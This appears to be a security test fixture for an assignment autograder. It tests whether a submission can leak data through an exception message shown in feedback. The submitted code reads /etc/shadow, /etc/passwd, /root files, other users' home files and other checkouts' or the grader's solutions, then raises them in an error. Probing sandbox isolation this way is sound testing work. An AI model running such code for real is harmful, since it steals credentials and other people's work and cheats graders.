# assignment: a3_adaptive
# target: adagrad_step
# expect-zero: adagrad_step
# expect-message: adagrad: RuntimeError: LOOT
# forbid-text: LOOT /
# Finding 5: read root-only files and another checkout's solutions, and send them back in
# an exception message (which reaches the feedback). Nothing of the host is in the sandbox.
import glob
import os

_loot = []
for pattern in ["/root/*", "/root/.*", "/etc/shadow", "/etc/passwd", "/home/*/*", "/work/*/solutions/*/*.md",
                "/tmp/*/solutions/*/*.md", "GRADER_ROOT/grading/*", "GRADER_ROOT/solutions/*/*.md", "GRADER_REPO/*",
                "GRADER_REPO/solutions/*/*.md"]:
    for path in glob.glob(pattern):
        try:
            with open(path, errors="replace") as f:
                _loot.append(path + ":" + f.read(200))
        except OSError:
            pass


def adagrad_step(w, g, state, lr=1e-2, eps=1e-10):
    raise RuntimeError("LOOT " + " | ".join(_loot))
